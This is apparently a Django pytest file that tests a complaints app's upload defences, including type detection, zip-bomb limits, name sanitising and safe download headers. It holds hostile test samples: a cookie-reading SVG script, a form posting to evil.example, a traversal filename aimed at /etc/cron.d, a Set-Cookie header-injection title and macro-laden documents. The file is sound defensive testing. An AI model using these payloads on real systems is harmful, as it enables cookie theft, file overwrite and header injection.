"""Uploads: the type comes from the content, sizes are limited (zip bombs too), names are never trusted, and files
are only ever sent as downloads to people who may see the case."""

from __future__ import annotations

import hashlib
import io
import struct
import uuid
import zipfile
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from complaints.models import Complaint, Document
from complaints.services import record
from core.errors import WorkflowError
from core.uploads import TYPES, download_as, upload_check
from tests.files import pdf_bytes

pytestmark = pytest.mark.django_db

PDF = pdf_bytes("Statement")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/complaints/')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


def office(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


DOCX = office({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document>Report</w:document>"})


def ole_file(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file holding `streams` (paths with "/" for storages), written by extract_msg's OLE writer."""
    from extract_msg.ole_writer import OleWriter

    writer = OleWriter()
    storages: set[str] = set()
    for path, data in streams.items():
        parts = path.split("/")
        for depth in range(1, len(parts)):
            storage = "/".join(parts[:depth])
            if storage not in storages:
                writer.addEntry(storage, storage=True)
                storages.add(storage)
        writer.addEntry(path, data)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(name: str, content: bytes, **kwargs) -> str:
    with pytest.raises(WorkflowError) as caught:
        upload_check(upload(name, content), **kwargs)
    assert caught.value.field == "file"
    return caught.value.message


@pytest.fixture
def complaint(log_complaint):
    return log_complaint()


class TestTypeFromContent:
    def test_a_program_named_as_a_pdf_is_refused(self):
        assert "named as a PDF but its content is not one" in refusal("statement.pdf", EXE)

    def test_a_web_page_is_refused_whatever_it_is_called(self):
        assert "Files of this type cannot be added" in refusal("page.html", HTML)
        assert "web page or image code" in refusal("notes.txt", HTML)
        assert "its content is not one" in refusal("letter.pdf", HTML)

    def test_an_svg_with_script_is_refused_as_an_svg_as_a_picture_and_as_text(self):
        assert "Files of this type cannot be added" in refusal("drawing.svg", SVG)
        assert "named as a PNG image but its content is not one" in refusal("drawing.png", SVG)
        assert "web page or image code" in refusal("drawing.csv", SVG)

    def test_the_type_stored_is_the_contents_not_the_browsers_claim(self):
        checked = upload_check(upload("damp.jpg", JPEG, content_type="text/html"))
        assert checked.content_type == "image/jpeg"
        assert upload_check(upload("report.docx", DOCX)).content_type.endswith("wordprocessingml.document")
        assert upload_check(upload("notes.txt", "Café opened late.".encode())).content_type == "text/plain"

    def test_a_zip_that_is_not_an_office_file_and_a_document_with_macros_are_refused(self):
        assert "its content is not one" in refusal("report.docx", office({"payload.exe": EXE}))
        macros = office({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"\x00" * 10})
        assert "contains macros" in refusal("report.docx", macros)


class TestActiveContent:
    """Issue 17 item 6: what a file holds decides, not what its parts are called or its first bytes say."""

    @pytest.mark.parametrize(
        "markup",
        [
            b'<img src=x onerror="fetch(1)">',
            b'<a href="javascript:alert(1)">click</a>',
            b'<form action="https://evil.example"><input name=p></form>',
            b"<style>body{background:url(x)}</style>",
            b'<link rel="stylesheet" href="https://evil.example/x.css">',
            b"<!-- hidden -->",
            b"see javascript:alert(1)",
        ],
    )
    def test_any_markup_in_a_text_file_is_refused(self, markup):
        for name in ("notes.txt", "figures.csv"):
            assert "web page or image code" in refusal(name, b"Repair notes\n" + markup + b"\n")

    @pytest.mark.parametrize(
        "text",
        [b"Rent went up by <5% this year", b"Ann Resident <ann@resident.example> wrote", b"If x<3 then call", b"a < b"],
    )
    def test_text_that_only_uses_angle_brackets_is_accepted(self, text):
        assert upload_check(upload("notes.txt", text)).content_type == "text/plain"

    def test_macros_are_found_by_the_declared_content_type_whatever_the_part_is_called(self):
        types = (
            b'<Types><Override PartName="/word/extras.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        )
        renamed = office({"[Content_Types].xml": types, "word/document.xml": b"<w/>", "word/extras.bin": b"\x00" * 10})
        assert "contains macros" in refusal("report.docx", renamed)
        macro_enabled = office(
            {
                "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" ContentType="application/'
                b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
                "word/document.xml": b"<w/>",
            }
        )
        assert "contains macros" in refusal("report.docx", macro_enabled)

    def test_activex_controls_and_opendocument_macros_are_refused(self):
        activex = office({"word/document.xml": b"<w/>", "word/activeX/activeX1.xml": b"<ax/>"})
        assert "contains macros" in refusal("report.docx", activex)
        basic = office({"content.xml": b"<office/>", "Basic/Standard/Module1.xml": b"<script/>"})
        assert "contains macros" in refusal("letter.odt", basic)

    def test_a_word_97_document_with_a_vba_project_is_refused_and_one_without_is_accepted(self):
        assert "contains macros" in refusal(
            "report.doc", ole_file({"WordDocument": b"x" * 4096, "Macros/VBA/dir": b"x" * 4096})
        )
        clean = ole_file({"WordDocument": b"x" * 4096, "1Table": b"x" * 4096})
        assert upload_check(upload("report.doc", clean)).content_type == "application/msword"

    def test_an_ole_signature_on_something_that_is_not_an_ole_file_is_refused(self):
        fake = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"<html><script>alert(1)</script></html>" * 20
        message = refusal("report.doc", fake)
        assert "damaged" in message or "its content is not one" in message

    def test_a_pdf_header_followed_by_a_web_page_is_refused_and_a_real_pdf_is_accepted(self):
        assert "named as a PDF but its content is not one" in refusal("letter.pdf", b"%PDF-1.7\n" + HTML)
        assert upload_check(upload("letter.pdf", PDF)).content_type == "application/pdf"


class TestSizes:
    def test_a_file_over_the_limit_is_refused_with_the_limit(self, settings):
        settings.UPLOAD_MAX_BYTES = 1024 * 1024
        message = refusal("big.pdf", PDF + b"0" * (1024 * 1024))
        assert message == "The file is larger than 1 MB. Send a smaller file."

    def test_an_empty_file_is_refused(self):
        assert "empty" in refusal("blank.pdf", b"")

    def test_a_zip_bomb_is_refused_by_its_declared_size(self, settings):
        settings.UPLOAD_MAX_UNPACKED_BYTES = 1024 * 1024
        bomb = office({"word/document.xml": b"<w/>", "word/media/image1.png": b"\x00" * (5 * 1024 * 1024)})
        assert len(bomb) < 20 * 1024
        assert "unpacks to more than 1 MB" in refusal("report.docx", bomb)

    def test_a_small_archive_compressed_too_far_is_refused(self):
        bomb = office({"xl/workbook.xml": b"<w/>", "xl/sharedStrings.xml": b"A" * (2 * 1024 * 1024)})
        assert "unpacks to more than" in refusal("figures.xlsx", bomb)

    def test_an_archive_whose_declared_sizes_lie_is_refused_when_unpacked(self):
        content = bytearray(office({"word/document.xml": b"<w/>" + b"\x00" * (3 * 1024 * 1024)}))
        # Rewrite the uncompressed size in the local and central headers of the big member to 100 bytes.
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            at = content.index(signature)
            content[at + offset : at + offset + 4] = struct.pack("<I", 100)
        assert "damaged" in refusal("report.docx", bytes(content))


class TestStorage:
    def test_a_path_in_the_name_goes_nowhere_and_the_file_sits_under_media_root(self, complaint, officer, settings):
        document = record.document_add(
            actor=officer, complaint=complaint, title="Statement", upload=upload("../../../etc/cron.d/x.pdf", PDF)
        )
        stored = Path(document.file.path).resolve()
        assert stored.is_relative_to(Path(settings.MEDIA_ROOT).resolve())
        assert ".." not in document.file.name and "cron" not in document.file.name and "x.pdf" not in document.file.name
        assert document.file.name == f"documents/{complaint.pk}/{document.sha256[:16]}"

    def test_media_is_outside_the_static_files_and_has_no_url(self, client):
        media = Path(django_settings.MEDIA_ROOT).resolve()
        for static in [Path(django_settings.STATIC_ROOT), *map(Path, django_settings.STATICFILES_DIRS)]:
            assert not media.is_relative_to(static.resolve())
        assert client.get(f"{django_settings.MEDIA_URL}documents/1/0123456789abcdef").status_code == 404


class TestDownloads:
    def test_staff_downloads_are_attachments_with_nosniff_and_an_accepted_type(
        self, client, officer, complaint, login_with_mfa
    ):
        jpeg = record.document_add(actor=officer, complaint=complaint, title="Wall", upload=upload("w.jpg", JPEG))
        # A row from before content checks, which kept the browser's claim.
        legacy = Document(
            complaint=complaint,
            title="Old",
            size=len(HTML),
            content_type="text/html",
            sha256="0" * 64,
            uploaded_by=officer,
        )
        legacy.sha256 = hashlib.sha256(HTML).hexdigest()
        legacy.file.save(legacy.sha256, upload("old.html", HTML), save=False)
        legacy.save()
        login_with_mfa(client, officer)
        for document, expected_type in ((jpeg, "image/jpeg"), (legacy, "application/octet-stream")):
            response = client.get(reverse("casework:document", args=[complaint.reference, document.pk]))
            assert response.status_code == 200
            assert response["Content-Disposition"].startswith("attachment;")
            assert response["Content-Type"] == expected_type
            assert response["X-Content-Type-Options"] == "nosniff"

    @pytest.mark.parametrize(
        ("name", "content", "sent_as", "extension"),
        [
            ("w.jpg", JPEG, "image/jpeg", ".jpg"),
            ("r.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ".docx"),
            ("old.html", HTML, "application/octet-stream", ""),
        ],
    )
    def test_the_staff_page_and_the_api_send_a_document_as_the_same_type_with_the_same_extension(
        self, client, officer, complaint, login_with_mfa, name, content, sent_as, extension
    ):
        if name.endswith(".html"):
            # A row from before content checks, which kept the browser's claim.
            document = Document(complaint=complaint, title="Wall", size=len(content), content_type="text/html")
            document.sha256 = hashlib.sha256(content).hexdigest()
            document.uploaded_by = officer
            document.file.save(document.sha256, upload(name, content), save=False)
            document.save()
        else:
            document = record.document_add(
                actor=officer, complaint=complaint, title="Wall", upload=upload(name, content)
            )
        login_with_mfa(client, officer)
        api = APIClient()
        api.force_authenticate(officer)

        staff = client.get(reverse("casework:document", args=[complaint.reference, document.pk]))
        machine = api.get(f"/api/v1/complaints/{complaint.pk}/documents/{document.pk}/download/")

        names = {}
        for way, response in (("staff", staff), ("api", machine)):
            assert response.status_code == 200
            assert response["Content-Type"] == sent_as
            names[way] = response["Content-Disposition"].removeprefix('attachment; filename="').removesuffix('"')
        assert names == {"staff": f"Wall{extension}", "api": f"{complaint.reference}-wall{extension}"}

    def test_people_who_may_not_see_the_case_get_no_file(
        self, client, officer, board_member, complaint, login_with_mfa
    ):
        document = record.document_add(actor=officer, complaint=complaint, title="Wall", upload=upload("w.jpg", JPEG))
        url = reverse("casework:document", args=[complaint.reference, document.pk])
        assert client.get(url).status_code == 302  # to sign in
        login_with_mfa(client, board_member)
        assert client.get(url).status_code == 403
        api = APIClient()
        api.force_authenticate(board_member)
        assert api.get(f"/api/v1/complaints/{complaint.pk}/documents/{document.pk}/download/").status_code in {403, 404}


class TestDownloadType:
    def test_every_accepted_type_is_sent_as_itself_named_with_its_own_extension(self):
        for extension, file_type in TYPES.items():
            content_type, name = download_as(file_type.content_type, "Report")
            assert content_type == file_type.content_type
            # JPEG photos are accepted as .jpg and .jpeg alike, and named .jpg.
            assert name == ("Report.jpg" if extension == ".jpeg" else f"Report{extension}")

    @pytest.mark.parametrize("claimed", ["text/html", "image/svg+xml", "application/x-msdownload", ""])
    def test_any_other_type_is_sent_as_plain_bytes_with_no_extension(self, claimed):
        assert download_as(claimed, "Report") == ("application/octet-stream", "Report")


class TestMessages:
    def test_the_public_form_names_each_refused_file_and_logs_nothing(self, client):
        data = {
            "token": str(uuid.uuid4()),
            "what_happened": "Damp.",
            "outcome_wanted": "Fix it.",
            "who": "me",
            "name": "Alex",
            "email": "alex@resident.example",
            "preferred_contact": "email",
            "address": "1 Road",
            "postcode": "AB1 2CD",
            "nation": "england",
            "attachments": [upload("photo<b>.jpg", SVG), upload("fine.pdf", PDF)],
        }
        page = client.post("/complain/", data).content.decode()
        assert "photo&lt;b&gt;.jpg: This file is named as a JPEG photo but its content is not one." in page
        assert Complaint.objects.count() == 0

    def test_the_staff_form_shows_the_reason_beside_the_file(self, client, officer, complaint, login_with_mfa):
        login_with_mfa(client, officer)
        url = reverse("casework:complaint-action", args=[complaint.reference, "document"])
        page = client.post(url, {"title": "Statement", "file": upload("statement.pdf", EXE)}).content.decode()
        assert "This file is named as a PDF but its content is not one." in page
        assert 'id="file-error"' in page or "govuk-error-message" in page
        assert not complaint.documents.exists()

    def test_the_api_answers_400_with_the_reason_on_the_file_field(self, officer):
        api = APIClient()
        api.force_authenticate(officer)
        body = {
            "title": "Complaints policy",
            "version": "3",
            "approved_on": "2025-11-20",
            "file": upload("policy.pdf", EXE),
            "sections": ["4: What a complaint is"],
        }
        answer = api.post("/api/v1/policy-documents/", body, format="multipart")
        assert answer.status_code == 400
        assert answer.json()["file"] == [
            "This file is named as a PDF but its content is not one. Save it as a real "
            "PDF, or use one of these: CSV file, Excel workbook, JPEG photo, OpenDocument "
            "text, PDF, PNG image, Word document, rich text document, text file."
        ]


def test_a_title_with_quotes_and_line_breaks_cannot_split_the_download_header(
    client, officer, complaint, login_with_mfa
):
    title = 'Report"\r\nSet-Cookie: sessionid=stolen; x="'
    document = record.document_add(actor=officer, complaint=complaint, title=title, upload=upload("r.pdf", PDF))
    login_with_mfa(client, officer)
    response = client.get(reverse("casework:document", args=[complaint.reference, document.pk]))
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith("attachment; filename*=utf-8''Report%22%0D%0ASet-Cookie")
    assert not response.cookies
